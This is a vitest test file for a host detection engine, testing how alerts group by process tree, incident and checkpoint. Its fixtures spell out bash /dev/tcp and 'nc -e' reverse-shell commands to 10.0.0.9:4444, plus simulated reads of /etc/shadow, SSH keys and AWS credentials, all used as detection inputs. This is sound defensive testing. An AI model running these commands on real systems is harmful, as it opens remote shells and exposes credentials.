import { describe, expect, it } from 'vitest';
import { DEFAULT_ENGINE_OPTIONS, DetectionEngine, type EngineOptions } from './engine';
import { loadRuleSet } from './rules/rule-directory';
import type { ProcessActivity } from './telemetry';
import { acceptedParts, foldsIntoTree, ProcessForest, type TreeAcceptance } from './tree-fold';
import { batch, described, proc } from '../../test/support/fixtures';

const rules = loadRuleSet();
const S = 1_000;
const OPTS: EngineOptions = { ...DEFAULT_ENGINE_OPTIONS, learningPeriodMs: 60 * S, groupWindowMs: 600 * S };

const BASH = '/usr/bin/bash';
const SSHD = '/usr/sbin/sshd';

/** A process of a login session: sshd → bash (pid 500) → … */
function sessionProc(pid: number, ppid: number, exe: string, parentExe: string, over: Partial<ProcessActivity> = {}): ProcessActivity {
  return proc({
    pid,
    ppid,
    startTimeNs: BigInt(pid),
    exe,
    comm: exe.slice(exe.lastIndexOf('/') + 1),
    uid: 1000,
    ancestry: [parentExe, SSHD, '/usr/lib/systemd/systemd'],
    syscalls: { read: 20, write: 20, openat: 4, close: 4, exit_group: 1 },
    files: [{ path: '/home/alice/.bashrc', flags: 0, ret: 0, count: 1, firstSeen: 0 }],
    network: [],
    ...over,
  });
}

/** The endpoint after its learning period with the session shell, ls and cat learned. */
function learned(e: DetectionEngine): number {
  let t = 0;
  for (let i = 0; t <= OPTS.learningPeriodMs + 10 * S; i++, t += 10 * S)
    e.processBatch(
      batch(t, [
        sessionProc(500, 400, BASH, SSHD, { execs: [{ time: 0, filename: '/usr/bin/ls', argv: ['ls'], ret: 0 }] }),
        sessionProc(600 + i, 500, '/usr/bin/ls', BASH),
        sessionProc(700 + i, 500, '/usr/bin/cat', BASH),
      ]),
    );
  return t;
}

/** An interactive shell whose startup hooks run three programs never seen here, each doing new things. */
function noisyStartup(t: number, firstPid: number): ProcessActivity[] {
  const hooks = ['/opt/pyenv/libexec/pyenv', '/opt/pyenv/libexec/pyenv-init', '/usr/bin/dircolors'];
  return [
    sessionProc(firstPid, 500, BASH, BASH, {
      syscalls: { read: 20, write: 20, openat: 4, close: 4, ioctl: 3, exit_group: 1 },
      execs: hooks.map((h, i) => ({ time: t + i, filename: h, argv: [h, 'init'], ret: 0 })),
      files: [{ path: '/home/alice/.pyenv/version', flags: 0, ret: 0, count: 1, firstSeen: t }],
    }),
    ...hooks.map((h, i) =>
      sessionProc(firstPid + 1 + i, firstPid, h, BASH, {
        files: [{ path: `/home/alice/.cache/hook-${i}`, flags: 0o101, ret: 0, count: 1, firstSeen: t }],
      }),
    ),
  ];
}


describe('process trees: baseline findings fold into one alert per tree', () => {
  it('a shell whose startup runs new programs that do new things raises one alert for its tree, with the count and examples', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const r = e.processBatch(batch(t, noisyStartup(t, 900)));
    const baseline = r.alerts.filter((a) => a.detector !== 'rule');
    expect(baseline).toHaveLength(1);
    const a = baseline[0]!;
    expect(a.key).toBe('tree 500:bash');
    // first runs of the hooks, their new files, the shell's new children and syscalls: all in one alert
    expect(a.count).toBeGreaterThanOrEqual(6);
    expect(Object.keys(a.data.kinds as object)).toEqual(expect.arrayContaining(['new-program', 'novel-child-program', 'novel-file-access']));
    expect(a.title).toMatch(/more deviations? from baseline in the tree of bash \(pid 500\)$/);
    expect((a.data.programs as string[]).sort()).toEqual(['/opt/pyenv/libexec/pyenv', '/opt/pyenv/libexec/pyenv-init', '/usr/bin/bash', '/usr/bin/dircolors'].sort());
    // accepting it teaches each program of the tree its own part
    const acc = a.acceptance as TreeAcceptance;
    expect(acc.byProgram[BASH]!.execChildren!.sort()).toEqual(['/opt/pyenv/libexec/pyenv', '/opt/pyenv/libexec/pyenv-init', '/usr/bin/dircolors']);
  });

  it('later batches of the same tree add occurrences; the alert rises with them and then joins an incident', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const first = e.processBatch(batch(t, [sessionProc(910, 500, '/usr/bin/ls', BASH, { files: [{ path: '/srv/data/new.txt', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
    expect(first.alerts.map((a) => [a.kind, a.severity, a.incidentId])).toEqual([['novel-file-access', 'low', null]]);
    const id = first.alerts[0]!.id;
    // the same tree reads a credential file it never read: the tree's alert rises to high
    const second = e.processBatch(batch(t + 10 * S, [sessionProc(911, 500, '/usr/bin/cat', BASH, { files: [{ path: '/home/alice/.ssh/id_rsa', flags: 0, ret: 0, count: 1, firstSeen: t + 5 * S }] })]));
    const occ = second.occurrences.find((o) => o.alertId === id)!;
    expect(occ).toMatchObject({ count: 1, pids: [911], severity: 'high', update: { severity: 'high', kind: 'sensitive-file-read' } });
    // the rule on the key read opened an incident; the risen tree alert joined it
    const rule = second.alerts.find((a) => a.detector === 'rule')!;
    expect(rule.incidentId).not.toBeNull();
    expect(occ.update!.incidentId).toBe(rule.incidentId);
    const final = described([...first.alerts, ...second.alerts], [...first.occurrences, ...second.occurrences]).find((a) => a.id === id)!;
    expect(final).toMatchObject({ count: 2, severity: 'high' });
    expect(final.title).toMatch(/^\/usr\/bin\/cat read \/home\/alice\/\.ssh\/id_rsa .* and 1 more deviation from baseline in the tree of bash \(pid 500\)$/);
  });

  it('an interpreter starts a tree of its own: the shell it spawns on a pty is a separate story', () => {
    const forest = new ProcessForest();
    const harness = proc({ pid: 10, ppid: 1, exe: '/usr/bin/node', ancestry: ['/usr/lib/systemd/systemd'] });
    const action = proc({ pid: 11, ppid: 10, exe: BASH, ancestry: ['/usr/bin/node', '/usr/lib/systemd/systemd'] });
    const python = proc({ pid: 12, ppid: 11, exe: '/usr/bin/python3', ancestry: [BASH, '/usr/bin/node'] });
    const pty = proc({ pid: 13, ppid: 12, exe: BASH, ancestry: ['/usr/bin/python3', BASH] });
    const cmd = proc({ pid: 14, ppid: 13, exe: '/usr/bin/id', ancestry: [BASH, '/usr/bin/python3'] });
    forest.remember([harness, action, python, pty, cmd], 0);
    expect(forest.rootOf(action).key).toBe('11:bash');
    expect(forest.rootOf(python).key).toBe('11:bash');
    expect(forest.rootOf(pty).key).toBe('13:bash');
    expect(forest.rootOf(cmd).key).toBe('13:bash');
    // a shell parent that was not seen (idle in wait4) is the root all the same
    const orphan = proc({ pid: 30, ppid: 29, exe: '/usr/bin/sort', ancestry: [BASH, SSHD] });
    expect(forest.rootOf(orphan)).toEqual({ pid: 29, exe: BASH, launcher: '', key: '29:bash' });
    // a subshell whose parent the agent could not name climbs by pid: the loop's probes are one tree
    const probe = proc({ pid: 40, ppid: 11, exe: '<unknown>', ancestry: [] });
    expect(forest.rootOf(probe).key).toBe('11:bash');
    expect(forest.rootOf(proc({ pid: 41, ppid: 39, exe: '<unknown>', ancestry: [] }))).toEqual({ pid: 39, exe: '', launcher: '', key: '39:?' });
    // services: each child of the service manager is its own root
    expect(forest.rootOf(harness).key).toBe('10:node');
  });

  it("a tool's helpers belong to the command line that ran it: one compile is one tree, a service's children are not", () => {
    const forest = new ProcessForest();
    const shell = proc({ pid: 20, ppid: 19, exe: BASH, ancestry: [SSHD, SSHD] });
    const gcc = proc({ pid: 21, ppid: 20, exe: '/usr/bin/x86_64-linux-gnu-gcc-12', ancestry: [BASH, SSHD] });
    const cc1 = proc({ pid: 22, ppid: 21, exe: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', ancestry: ['/usr/bin/x86_64-linux-gnu-gcc-12', BASH] });
    const collect2 = proc({ pid: 23, ppid: 21, exe: '/usr/lib/gcc/x86_64-linux-gnu/12/collect2', ancestry: ['/usr/bin/x86_64-linux-gnu-gcc-12', BASH] });
    const ld = proc({ pid: 24, ppid: 23, exe: '/usr/bin/x86_64-linux-gnu-ld.bfd', ancestry: ['/usr/lib/gcc/x86_64-linux-gnu/12/collect2', '/usr/bin/x86_64-linux-gnu-gcc-12'] });
    const make = proc({ pid: 25, ppid: 20, exe: '/usr/bin/make', ancestry: [BASH, SSHD] });
    const recipe = proc({ pid: 26, ppid: 25, exe: '/usr/bin/dash', ancestry: ['/usr/bin/make', BASH] });
    const service = proc({ pid: 30, ppid: 1, exe: '/usr/sbin/nginx', ancestry: ['/usr/lib/systemd/systemd'] });
    const worker = proc({ pid: 31, ppid: 30, exe: '/usr/sbin/nginx', ancestry: ['/usr/sbin/nginx', '/usr/lib/systemd/systemd'] });
    const cgi = proc({ pid: 32, ppid: 31, exe: '/usr/bin/dash', ancestry: ['/usr/sbin/nginx', '/usr/sbin/nginx'] });
    forest.remember([shell, gcc, cc1, collect2, ld, make, recipe, service, worker, cgi], 0);
    for (const p of [gcc, cc1, collect2, ld, make, recipe]) expect(forest.rootOf(p).key, p.exe).toBe('20:bash');
    // the server was not started by a shell: its shells are trees of their own
    expect(forest.rootOf(cgi).key).toBe('32:dash');
    // nor are the children of a program run by hand that is not a build or file tool (a test harness, an implant)
    const harness = proc({ pid: 50, ppid: 20, exe: '/opt/microsoft/powershell/7/pwsh', ancestry: [BASH, SSHD] });
    const test = proc({ pid: 51, ppid: 50, exe: '/usr/bin/dash', ancestry: ['/opt/microsoft/powershell/7/pwsh', BASH] });
    forest.remember([harness, test], 0);
    expect(forest.rootOf(test).key).toBe('51:dash');
    // the shell ends by exec'ing what it built (bash -c 'cc x.c -o x && ./x'): the tree keeps its name and key
    const built = proc({ pid: 20, ppid: 19, exe: '/tmp/x', ancestry: [SSHD, SSHD] });
    forest.remember([built], 1);
    expect(forest.rootOf(cc1)).toMatchObject({ key: '20:bash', exe: BASH });
    expect(forest.rootOf(built).key).toBe('20:bash');
    expect(ProcessForest.fromJSON(JSON.parse(JSON.stringify(forest.toJSON()))).rootOf(cc1).key).toBe('20:bash');
    // a pid reused under another parent is another process
    forest.remember([proc({ pid: 20, ppid: 7, exe: '/usr/bin/sleep', ancestry: [BASH] })], 2);
    expect(forest.rootOf(proc({ pid: 20, ppid: 7, exe: '/usr/bin/sleep', ancestry: [BASH] })).key).not.toBe('20:bash');
  });

  it('the same deviation by many runs of one program is one alert, whichever tree each run is in', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const cronRun = (pid: number) => proc({ pid, ppid: 1, exe: '/usr/bin/cat', comm: 'cat', uid: 1000, syscalls: { read: 20, write: 20, openat: 4, close: 4, exit_group: 1 }, network: [], files: [{ path: '/etc/pam.d/common-auth', flags: 0, ret: 0, count: 1, firstSeen: t }] });
    const r = e.processBatch(batch(t, [cronRun(801), cronRun(802), cronRun(803)]));
    const tree = r.alerts.filter((a) => a.detector !== 'rule');
    expect(tree).toHaveLength(1);
    expect(tree[0]).toMatchObject({ kind: 'sensitive-file-read', count: 3, data: { pids: [801, 802, 803] } });
    const later = e.processBatch(batch(t + 10 * S, [cronRun(804)]));
    expect(later.alerts.filter((a) => a.detector !== 'rule')).toEqual([]);
    expect(later.occurrences).toContainEqual(expect.objectContaining({ alertId: tree[0]!.id, count: 1, pids: [804] }));
  });

  it('…but not across stories: a run of the same job repeats its story (one rule alert, one of deviations); a run in another story keeps alerts of its own', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const aws = [{ path: '/home/alice/.aws/credentials', flags: 0, ret: 0, count: 1, firstSeen: t }];
    const cronRun = (pid: number) => proc({ pid, ppid: 1, exe: '/usr/bin/cat', comm: 'cat', uid: 1000, syscalls: { read: 20, write: 20, openat: 4, close: 4, exit_group: 1 }, network: [], files: aws });
    const first = e.processBatch(batch(t, [cronRun(801)]));
    const later = e.processBatch(batch(t + 10 * S, [cronRun(804)]));
    const rule = first.alerts.find((a) => a.kind === 'cloud-credentials-read')!;
    expect(later.alerts).toEqual([]);
    expect(later.occurrences).toContainEqual(expect.objectContaining({ alertId: rule.id, pids: [804] }));
    // the same credentials read from a login session is another story: its own rule alert and incident
    const session = e.processBatch(batch(t + 20 * S, [sessionProc(805, 500, '/usr/bin/cat', BASH, { files: aws })]));
    const other = session.alerts.find((a) => a.kind === 'cloud-credentials-read')!;
    expect(other.id).not.toBe(rule.id);
    expect(other.incidentId).not.toBe(rule.incidentId);
    const deviations = [...first.alerts, ...session.alerts].filter((a) => a.detector !== 'rule');
    expect(deviations).toHaveLength(2);
    expect(new Set(deviations.map((a) => a.incidentId)).size).toBe(2);
  });

  it('generic novelties ("new files", "new syscalls") of separate runs are separate trees\' alerts; forked workers are their master\'s tree', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const run = (pid: number, ppid = 1, exe = '/usr/bin/cat') => proc({ pid, ppid, exe, comm: 'cat', uid: 1000, ancestry: [ppid === 1 ? '/usr/lib/systemd/systemd' : exe], syscalls: { read: 20, write: 20, openat: 4, close: 4, exit_group: 1 }, network: [], files: [{ path: `/srv/new-${pid}`, flags: 0, ret: 0, count: 1, firstSeen: t }] });
    expect(e.processBatch(batch(t, [run(811), run(812)])).alerts.map((a) => a.key).sort()).toEqual(['tree 811:cat', 'tree 812:cat']);
    expect(e.processBatch(batch(t + S, [run(820), run(821, 820), run(822, 820)])).alerts.map((a) => [a.key, a.count])).toEqual([['tree 820:cat', 3]]);
  });

  it('rules and first runs that name a technique keep alerts of their own', () => {
    expect(foldsIntoTree({ detector: 'rule', severity: 'high', mitre: 'T1003.008' } as never)).toBe(false);
    expect(foldsIntoTree({ detector: 'program', severity: 'high', mitre: 'T1105' } as never)).toBe(false);
    expect(foldsIntoTree({ detector: 'program', severity: 'medium', mitre: null } as never)).toBe(true);
    expect(foldsIntoTree({ detector: 'exec', severity: 'high', mitre: 'T1059.004' } as never)).toBe(true);
    // password guessing names its technique on its own; another network deviation joins its tree
    expect(foldsIntoTree({ detector: 'network', severity: 'high', mitre: 'T1110', standsAlone: true } as never)).toBe(false);
    expect(foldsIntoTree({ detector: 'network', severity: 'medium', mitre: 'T1571' } as never)).toBe(true);
  });

  it('open trees survive a checkpoint: a restored engine adds to the same alert; an accepted tree closes', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const first = e.processBatch(batch(t, noisyStartup(t, 900)));
    const tree = first.alerts.find((a) => a.key.startsWith('tree '))!;
    const restored = new DetectionEngine(rules, OPTS);
    restored.restore(JSON.parse(JSON.stringify(e.snapshot())));
    const more = restored.processBatch(batch(t + 10 * S, [sessionProc(950, 500, '/usr/bin/ls', BASH, { files: [{ path: '/srv/other', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
    expect(more.alerts).toEqual([]);
    expect(more.occurrences.map((o) => o.alertId)).toEqual([tree.id]);
    // accepted: the tree's alert closes, so a new deviation of that tree is a new alert
    expect(restored.closeTree('ep-1', tree.id)).toBe(true);
    const after = restored.processBatch(batch(t + 20 * S, [sessionProc(951, 500, '/usr/bin/cat', BASH, { files: [{ path: '/srv/third', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
    expect(after.alerts.map((a) => a.key)).toEqual(['tree 500:bash']);
    expect(after.alerts[0]!.id).not.toBe(tree.id);
  });

  it('a queued acceptance of a tree teaches each program its part; a fleet row (another build) only its program', () => {
    const tree: TreeAcceptance = { byProgram: { [BASH]: { execChildren: ['/usr/bin/sort'] }, '/usr/bin/sort#0123456789abcdef': { files: ['read /srv/<f>'] } } };
    expect(acceptedParts(BASH, null, tree)).toEqual([
      { programKey: BASH, acceptance: { execChildren: ['/usr/bin/sort'] } },
      { programKey: '/usr/bin/sort#0123456789abcdef', acceptance: { files: ['read /srv/<f>'] } },
    ]);
    expect(acceptedParts('/usr/bin/sort', '/usr/bin/sort#ffffffffffffffff', tree)).toEqual([{ programKey: '/usr/bin/sort#ffffffffffffffff', acceptance: { files: ['read /srv/<f>'] } }]);
    expect(acceptedParts('/usr/bin/sort', '/usr/bin/sort', { files: ['x'] })).toEqual([{ programKey: '/usr/bin/sort', acceptance: { files: ['x'] } }]);
  });

  it('a rule that fires again in the same tree is one alert with a count; in another tree, another alert', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const shadow = [{ path: '/etc/shadow', flags: 0, ret: 0, count: 1, firstSeen: t }];
    const r = e.processBatch(
      batch(t, [
        sessionProc(960, 500, '/usr/bin/cat', BASH, { files: shadow }),
        sessionProc(961, 500, '/usr/bin/head', BASH, { files: shadow }),
        proc({ pid: 962, ppid: 1, exe: '/usr/bin/cat', comm: 'cat', files: shadow, network: [] }),
      ]),
    );
    const reads = r.alerts.filter((a) => a.kind === 'credential-file-read');
    expect(reads.map((a) => [a.pid, a.count]).sort()).toEqual([
      [960, 2],
      [962, 1],
    ]);
    // the session's group survives a checkpoint of the endpoint: a later read in the tree joins it
    const restored = new DetectionEngine(rules, OPTS);
    // as the consumer does: each program's checkpoint row, then the endpoint's
    for (const b of [...e.allBaselines()]) restored.restoreCheckpoint('ep-1', JSON.parse(JSON.stringify(e.checkpoint('ep-1', b.program.key)!)));
    restored.restoreEndpoint('ep-1', JSON.parse(JSON.stringify(e.endpointCheckpoint('ep-1')!)));
    const later = restored.processBatch(batch(t + 10 * S, [sessionProc(963, 500, '/usr/bin/tail', BASH, { files: shadow })]));
    expect(later.alerts.filter((a) => a.kind === 'credential-file-read')).toEqual([]);
    expect(later.occurrences.map((o) => o.alertId)).toContain(reads.find((a) => a.pid === 960)!.id);
  });

  it('the same rule in one incident across batches and trees (a wrapper, then the shell it starts) is one alert', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const shadow = [{ path: '/etc/shadow', flags: 0, ret: 0, count: 1, firstSeen: t }];
    // an interpreter (not a shell: its child starts a tree of its own) reads the file, then its child does
    const first = e.processBatch(batch(t, [proc({ pid: 970, ppid: 500, exe: '/usr/bin/python3', comm: 'python3', ancestry: [BASH, SSHD], files: shadow, network: [] })]));
    const read = first.alerts.find((a) => a.kind === 'credential-file-read')!;
    expect(read.incidentId).not.toBeNull();
    const second = e.processBatch(batch(t + 10 * S, [proc({ pid: 971, ppid: 970, exe: '/usr/bin/cat', comm: 'cat', ancestry: ['/usr/bin/python3', BASH], files: shadow, network: [] })]));
    expect(second.alerts.filter((a) => a.kind === 'credential-file-read')).toEqual([]);
    expect(second.occurrences).toContainEqual(expect.objectContaining({ alertId: read.id, pids: [971] }));
    // the incident's rule alerts survive the endpoint checkpoint
    const restored = new DetectionEngine(rules, OPTS);
    for (const b of [...e.allBaselines()]) restored.restoreCheckpoint('ep-1', JSON.parse(JSON.stringify(e.checkpoint('ep-1', b.program.key)!)));
    restored.restoreEndpoint('ep-1', JSON.parse(JSON.stringify(e.endpointCheckpoint('ep-1')!)));
    const third = restored.processBatch(batch(t + 20 * S, [proc({ pid: 972, ppid: 970, exe: '/usr/bin/head', comm: 'head', ancestry: ['/usr/bin/python3', BASH], files: shadow, network: [] })]));
    expect(third.alerts.filter((a) => a.kind === 'credential-file-read')).toEqual([]);
  });

  it('a wrapper and the command it runs fire an exec rule once: bash, timeout and the inner bash of one reverse shell are one alert; siblings stay two', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const inner = 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1';
    const exec = (pid: number, ppid: number, exe: string, parentExe: string, argv: string[], at: number) =>
      sessionProc(pid, ppid, exe, parentExe, { execs: [{ time: at, filename: exe, argv, ret: 0 }] });
    // the agent's fast path sends each exec in a batch of its own
    const runs = [
      e.processBatch(batch(t, [exec(1000, 500, BASH, BASH, ['bash', '-c', `timeout 5 bash -c "${inner}"`], t)])),
      e.processBatch(batch(t + S, [exec(1001, 1000, '/usr/bin/timeout', BASH, ['timeout', '5', 'bash', '-c', inner], t + S)])),
      e.processBatch(batch(t + 2 * S, [exec(1002, 1001, BASH, '/usr/bin/timeout', ['bash', '-c', inner], t + 2 * S)])),
    ];
    const alerts = runs.flatMap((r) => r.alerts).filter((a) => a.kind === 'reverse-shell-command');
    expect(alerts).toHaveLength(1);
    const joined = runs.flatMap((r) => r.occurrences).filter((o) => o.alertId === alerts[0]!.id);
    expect(joined.flatMap((o) => o.pids)).toEqual([1000, 1001, 1002]);
    // in one batch: one alert with both, and one occurrence (the store keeps one per alert and batch)
    const e1 = new DetectionEngine(rules, OPTS);
    const t1 = learned(e1);
    const one = e1.processBatch(batch(t1, [exec(1000, 500, BASH, BASH, ['bash', '-c', `timeout 5 bash -c "${inner}"`], t1), exec(1001, 1000, '/usr/bin/timeout', BASH, ['timeout', '5', 'bash', '-c', inner], t1)]));
    const shell = one.alerts.filter((x) => x.kind === 'reverse-shell-command');
    expect(shell).toHaveLength(1);
    expect(shell[0]!.count).toBe(2);
    const occ = one.occurrences.filter((o) => o.alertId === shell[0]!.id);
    expect(occ).toHaveLength(1);
    expect(occ[0]).toMatchObject({ count: 2, pids: [1000, 1001] });
    expect(new Set(one.occurrences.map((o) => o.alertId)).size).toBe(one.occurrences.length);
    // two siblings started by one script are two acts, two alerts (their targets differ)
    const e2 = new DetectionEngine(rules, OPTS);
    const t2 = learned(e2);
    const a = e2.processBatch(batch(t2, [exec(1100, 500, '/usr/bin/nc.traditional', BASH, ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'], t2)]));
    const b = e2.processBatch(batch(t2 + S, [exec(1101, 500, BASH, BASH, ['bash', '-c', inner], t2 + S)]));
    expect([...a.alerts, ...b.alerts].filter((x) => x.kind === 'reverse-shell-command')).toHaveLength(2);
  });

  it('a discovery rule grouped by rule is one alert per tree, whichever tools the command line used', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const exec = (pid: number, exe: string, argv: string[], at: number) => sessionProc(pid, 1000, exe, BASH, { execs: [{ time: at, filename: exe, argv, ret: 0 }] });
    const shell = sessionProc(1000, 500, BASH, BASH, { execs: [{ time: t, filename: BASH, argv: ['bash', '-c', 'cat /etc/default/locale; printenv LANG; env | grep LANG'], ret: 0 }] });
    const runs = [
      e.processBatch(batch(t, [shell, exec(1001, '/usr/bin/cat', ['cat', '/etc/default/locale'], t)])),
      e.processBatch(batch(t + S, [exec(1002, '/usr/bin/printenv', ['printenv', 'LANG'], t + S), exec(1003, '/usr/bin/grep', ['grep', 'LANG'], t + S)])),
    ];
    const alerts = runs.flatMap((r) => r.alerts).filter((a) => a.kind === 'locale-discovery');
    expect(alerts).toHaveLength(1);
    const pids = runs.flatMap((r) => r.occurrences).filter((o) => o.alertId === alerts[0]!.id).flatMap((o) => o.pids);
    expect(new Set(pids)).toEqual(new Set([1001, 1002, 1003]));
  });

  it('a rule that fires again in another tree of the same program (a cron job run from /tmp every minute) is one alert with an occurrence per run, across a restart', () => {
    let e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const CRON = '/usr/sbin/cron';
    const run = (i: number) =>
      proc({
        pid: 3000 + i,
        ppid: 300,
        startTimeNs: BigInt(3000 + i),
        exe: '/tmp/vigil-job',
        comm: 'vigil-job',
        uid: 0,
        ancestry: [CRON, '/usr/lib/systemd/systemd'],
        syscalls: { read: 4, write: 2, exit_group: 1 },
        execs: [{ time: t + i * 60 * S, filename: '/tmp/vigil-job', argv: ['/tmp/vigil-job', `--run=${i}`], ret: 0 }],
        files: [],
        network: [],
      });
    const results = [];
    for (let i = 0; i < 5; i++) {
      if (i === 3) {
        const restored = new DetectionEngine(rules, OPTS);
        restored.restore(JSON.parse(JSON.stringify(e.snapshot())));
        e = restored;
      }
      results.push(e.processBatch(batch(t + i * 60 * S, [run(i)])));
    }
    const alerts = results.flatMap((r) => r.alerts).filter((a) => a.kind === 'exec-from-tmp');
    expect(alerts).toHaveLength(1);
    const runs = results.flatMap((r) => r.occurrences).filter((o) => o.alertId === alerts[0]!.id);
    expect(runs.flatMap((o) => o.pids)).toEqual([3000, 3001, 3002, 3003, 3004]);
    // past the group window without a repeat, the next run is an alert again
    const later = e.processBatch(batch(t + 4 * 60 * S + OPTS.groupWindowMs + 60 * S, [run(9)]));
    expect(later.alerts.filter((a) => a.kind === 'exec-from-tmp')).toHaveLength(1);
  });

  it('once an alert names what happened, the deviations of every process tree of its incident join one alert', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    // cat reads /etc/shadow: the rule opens an incident of the session (cat and its shell, pid 500)
    const first = e.processBatch(batch(t, [sessionProc(1200, 500, '/usr/bin/cat', BASH, { files: [{ path: '/etc/shadow', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
    const rule = first.alerts.find((a) => a.kind === 'credential-file-read')!;
    expect(rule.incidentId).not.toBeNull();
    const deviations = first.alerts.filter((a) => a.detector !== 'rule');
    expect(deviations).toHaveLength(1);
    expect(deviations[0]).toMatchObject({ key: 'tree 500:bash', incidentId: rule.incidentId });
    // a python never seen here (session tree) and the shell it spawns (a tree of its own, pid 1301) deviate
    const second = e.processBatch(
      batch(t + 10 * S, [
        sessionProc(1300, 500, '/usr/bin/python3', BASH, { files: [{ path: '/srv/stage.py', flags: 0, ret: 0, count: 1, firstSeen: t }] }),
        sessionProc(1301, 1300, BASH, '/usr/bin/python3', { files: [{ path: '/srv/loot.txt', flags: 0, ret: 0, count: 1, firstSeen: t }] }),
      ]),
    );
    // without the incident they would be two alerts (trees 500:bash and 1301:bash); with it, the incident's one
    expect(second.alerts.filter((a) => a.detector !== 'rule')).toEqual([]);
    const occ = second.occurrences.find((o) => o.alertId === deviations[0]!.id)!;
    expect(occ.pids.sort()).toEqual([1300, 1301]);
    expect(occ.update!.title).toMatch(/in the process trees of this incident \(first: bash \(pid 500\)\)$/);
    expect(occ.update!.data).toMatchObject({ incident: rule.incidentId });
    // a checkpoint keeps the incident's alert of deviations
    const restored = new DetectionEngine(rules, OPTS);
    restored.restore(JSON.parse(JSON.stringify(e.snapshot())));
    const third = restored.processBatch(batch(t + 20 * S, [sessionProc(1302, 1300, BASH, '/usr/bin/python3', { files: [{ path: '/srv/more.txt', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
    expect(third.alerts.filter((a) => a.detector !== 'rule')).toEqual([]);
    expect(third.occurrences.map((o) => o.alertId)).toContain(deviations[0]!.id);
  });

  it("a command whose parent subshell made no call in the window roots at the session shell through the agent's ancestor pids, and joins the session's incident", () => {
    const run = (withLineage: boolean) => {
      const e = new DetectionEngine(rules, OPTS);
      const t = learned(e);
      const first = e.processBatch(batch(t, [sessionProc(1200, 500, '/usr/bin/cat', BASH, { files: [{ path: '/etc/shadow', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
      const deviations = first.alerts.find((a) => a.detector !== 'rule')!;
      // pyenv's hooks: bash (500) → subshell (1401, idle in wait4, never in a batch) → readlink
      const readlink = sessionProc(1402, 1401, '/usr/bin/readlink', BASH, {
        ancestry: [BASH, BASH, SSHD],
        ancestorPids: withLineage ? [1401, 500, 400] : null,
        files: [{ path: '/root/.pyenv/version', flags: 0, ret: 0, count: 1, firstSeen: t }],
      });
      return { deviations, second: e.processBatch(batch(t + 10 * S, [readlink])) };
    };
    const { deviations, second } = run(true);
    expect(second.alerts.filter((a) => a.detector !== 'rule')).toEqual([]);
    expect(second.occurrences.find((o) => o.alertId === deviations.id)!.pids).toEqual([1402]);
    // without the lineage (an older agent) the idle subshell is the root of a tree of its own
    expect(run(false).second.alerts.map((a) => a.key)).toEqual(['tree 1401:bash']);
  });

  it('an exec rule is raised on the process that runs the command, not on the harness that started it (when the batch has it)', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const argv = ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'];
    const harness = proc({ pid: 2000, ppid: 1, exe: '/usr/bin/node', comm: 'node', ancestry: ['/usr/lib/systemd/systemd'], execs: [{ time: t, filename: BASH, argv, ret: 0 }], network: [] });
    const action = proc({ pid: 2001, ppid: 2000, exe: BASH, comm: 'bash', ancestry: ['/usr/bin/node', '/usr/lib/systemd/systemd'], argv, execs: [], network: [] });
    const r = e.processBatch(batch(t, [harness, action]));
    const shell = r.alerts.filter((a) => a.kind === 'reverse-shell-command');
    expect(shell).toHaveLength(1);
    expect(shell[0]).toMatchObject({ pid: 2001, ppid: 2000, program: BASH, ancestry: ['/usr/bin/node', '/usr/lib/systemd/systemd'] });
    // the command's process not in the batch: the alert stays on the program that started it
    const alone = e.processBatch(batch(t + 700 * S, [{ ...harness, execs: [{ time: t + 700 * S, filename: BASH, argv: [...argv, '#2'], ret: 0 }] }]));
    expect(alone.alerts.find((a) => a.kind === 'reverse-shell-command')).toMatchObject({ pid: 2000, program: '/usr/bin/node' });
  });

  it('new loopback ports are no peer that joins trees: each bash tree keeps its own connections', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const dial = (pid: number, port: number, at: number) => proc({ pid, ppid: 1, exe: BASH, comm: 'bash', ancestry: ['/usr/lib/systemd/systemd'], network: [{ op: 'CONNECT', family: 'INET', addr: '127.0.0.1', port, ret: -111, count: 1, firstSeen: at }] });
    const a = e.processBatch(batch(t, [dial(3000, 4444, t)]));
    const b = e.processBatch(batch(t + 10 * S, [dial(3100, 5555, t + 10 * S)]));
    const trees = [...a.alerts, ...b.alerts].filter((x) => x.detector !== 'rule').map((x) => x.key);
    expect(trees).toEqual(['tree 3000:bash', 'tree 3100:bash']);
  });

  it('a shell that starts a discovery tool it never started here (arp after learning) is medium and names the technique; routine children and other new ones stay quiet or low', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const shellRuns = (pid: number, child: string) => sessionProc(pid, 400, BASH, SSHD, { execs: [{ time: t, filename: child, argv: [child.slice(child.lastIndexOf('/') + 1)], ret: 0 }] });
    const recon = e.processBatch(batch(t, [shellRuns(1500, '/usr/sbin/arp')]));
    const tree = recon.alerts.find((a) => a.detector !== 'rule')!;
    expect(tree).toMatchObject({ severity: 'medium', mitre: 'T1018' });
    expect(tree.title).toMatch(/started \/usr\/sbin\/arp \(remote system discovery\)/);
    // the child it ran while learning: nothing; a new child that discovers nothing: low at most
